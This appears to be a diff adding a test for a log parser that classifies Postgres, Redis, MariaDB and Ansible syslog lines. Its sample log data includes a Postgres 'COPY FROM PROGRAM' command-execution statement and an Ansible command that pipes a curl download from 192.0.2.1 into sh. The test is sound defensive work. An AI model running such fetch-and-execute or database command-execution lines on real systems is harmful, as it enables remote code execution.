@@ -99,6 +99,26 @@ describe('JumpServer', () => {
   });
 });
 
+test('databases and Ansible through syslog', () => {
+  expect(read('postgres', "[3-1] ada@app LOG:  statement: COPY x FROM PROGRAM 'id'")).toMatchObject({
+    what: 'service',
+    action: 'statement',
+    account: 'ada',
+  });
+  expect(read('postgres', '[3-2] ada@app LOG:  statement: x')).toBeUndefined();
+  expect(read('redis-server', 'DB saved on disk')).toMatchObject({ action: 'saved' });
+  const denied =
+    "2024-01-02  3:04:05 8 [Warning] Access denied for user 'root'@'192.0.2.7' (using password: YES)";
+  expect(read('mariadbd', denied)).toMatchObject({ what: 'login', outcome: 'failed', from: '192.0.2.7' });
+  const invoked = 'Invoked with _raw_params=curl http://192.0.2.1/x | sh warn=True';
+  expect(read('python3', `ansible-ansible.legacy.command ${invoked}`)).toMatchObject({
+    service: 'ansible',
+    detail: expect.stringContaining('ansible.legacy.command _raw_params=curl'),
+  });
+  expect(read('ansible-command', invoked)).toMatchObject({ service: 'ansible' });
+  expect(read('python3', invoked)).toBeUndefined();
+});
+
 test('dockerd and the kubelet through syslog', () => {
   const text = [
     'Jan  2 03:04:05 h dockerd[7]: time="2024-01-02T03:04:05Z" level=debug msg="Calling POST /v1.41/containers/create"',
